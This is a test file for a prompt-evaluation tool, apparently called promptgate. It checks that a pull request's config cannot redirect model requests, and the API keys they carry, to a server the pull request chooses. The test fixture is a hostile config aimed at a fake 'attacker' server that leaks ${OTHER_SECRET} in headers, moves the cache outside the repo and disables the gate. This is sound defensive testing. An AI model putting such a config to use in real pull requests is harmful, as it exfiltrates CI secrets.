/**
 * compare on a pull request: the head's promptgate.yaml is the pull request's, so it must not
 * choose where requests (and the keys they carry) go. Two fake OpenAI servers on 127.0.0.1: the
 * one the base config names, and another one the head points the provider at.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/report/markdown.js';
import { startFakeOpenAI, type FakeServer } from '../fakes/openai-server.js';
import { createTempRepo, type TempRepo } from '../helpers/git-repo.js';
import { evaluateCheckout } from '../helpers/in-process.js';

const KEY = 'sk-corp-secret-5e1';
const OTHER = 'other-secret-9c2';
// OPENAI_API_KEY: the trusted config would route `my-model` to OpenAI (it is never called).
const ENV = { CORP_KEY: KEY, OTHER_SECRET: OTHER, OPENAI_API_KEY: 'sk-unused', PATH: process.env.PATH ?? '' };

const prompt = (id: string, model: string, text: string) =>
  `id: ${id}\nversion: 1.0.0\nmodel: ${model}\nmessages:\n  - role: user\n    content: "${text} {{ name }}"\n`;
const suite = (id: string) =>
  `prompt: ${id}\nmetrics:\n  - type: contains\n    value: Ada\ncases:\n  - id: one\n    vars: { name: Ada }\n`;

let trusted: FakeServer;
let attacker: FakeServer;
let repo: TempRepo;
let base: string;
let head: string;

beforeAll(async () => {
  trusted = await startFakeOpenAI();
  attacker = await startFakeOpenAI();
  repo = createTempRepo();
  base = repo.commit(
    {
      'promptgate.yaml': [
        'providers:',
        `  corp: { type: openai, base_url: "${trusted.url}/v1", api_key_env: CORP_KEY }`,
        'models: { "gpt-*": corp }',
        '',
      ].join('\n'),
      'p/greet.prompt.yaml': prompt('greet', 'gpt-4o-mini', 'Say hello to'),
      'p/greet.eval.yaml': suite('greet'),
    },
    'base',
  );
  head = repo.commit(
    {
      'promptgate.yaml': [
        'providers:',
        `  corp: { type: openai, base_url: "${attacker.url}/v1", api_key_env: CORP_KEY, headers: { X-Leak: "\${OTHER_SECRET}" } }`,
        `  evil: { type: openai, base_url: "${attacker.url}/v1", api_key_env: CORP_KEY, headers: { X-Other: "\${OTHER_SECRET}" } }`,
        'models: { "gpt-*": corp, "my-*": evil }',
        'cache: { dir: ../outside-cache }',
        // A pull request that would switch its own gate off and lift its budget.
        'gate: { fail_on: never, max_drop: 1 }',
        'max_cost_usd: 1000',
        '',
      ].join('\n'),
      'p/greet.prompt.yaml': prompt('greet', 'gpt-4o-mini', 'Greet'),
      'p/steal.prompt.yaml': prompt('steal', 'my-model', 'Hello'),
      'p/steal.eval.yaml': suite('steal'),
    },
    'head',
  );
});

afterAll(async () => {
  await trusted.close();
  await attacker.close();
  repo.remove();
});

describe('compare uses the base commit for providers, routing and the cache directory', () => {
  it('sends no request to the URL the head chose, names what was not applied, errors the head-only model', async () => {
    const report = await evaluateCheckout(repo.dir, { mode: 'compare', base, head, cacheMode: 'off' }, ENV);

    expect(attacker.requests).toHaveLength(0);
    expect(trusted.requests.length).toBeGreaterThan(0);
    for (const request of trusted.requests) {
      expect(request.headers.authorization).toBe(`Bearer ${KEY}`);
      expect(JSON.stringify(request.headers)).not.toContain(OTHER);
    }
    expect(report.headConfigNotApplied).toEqual([
      'providers.corp (base_url, headers)',
      'providers.evil (new)',
      'models["my-*"] -> evil',
      'cache.dir: ../outside-cache',
      'gate',
      'max_cost_usd',
    ]);
    expect(report.failOn).toEqual(['fail', 'error']);

    const greet = report.prompts.find((p) => p.id === 'greet');
    expect(greet?.verdict).toBe('pass');
    const steal = report.prompts.find((p) => p.id === 'steal');
    expect(steal?.verdict).toBe('error');
    expect(JSON.stringify(steal)).toContain(
      "model `my-model` is routed to provider `evil` only by the pull request's promptgate.yaml",
    );
    expect(JSON.stringify(report)).not.toContain(KEY);
    expect(renderMarkdown(report)).toContain("not applied from the pull request's promptgate.yaml");
  });

  it('--trust-head-config applies the head as written (the opt-in a maintainer makes)', async () => {
    const before = attacker.requests.length;
    const report = await evaluateCheckout(
      repo.dir,
      { mode: 'compare', base, head, cacheMode: 'off', trustHeadConfig: true },
      ENV,
    );
    expect(attacker.requests.length).toBeGreaterThan(before);
    expect(attacker.requests.at(-1)?.headers['x-other'] ?? attacker.requests.at(-1)?.headers['x-leak']).toBe(
      OTHER,
    );
    expect(report.headConfigNotApplied).toBeUndefined();
  });
});
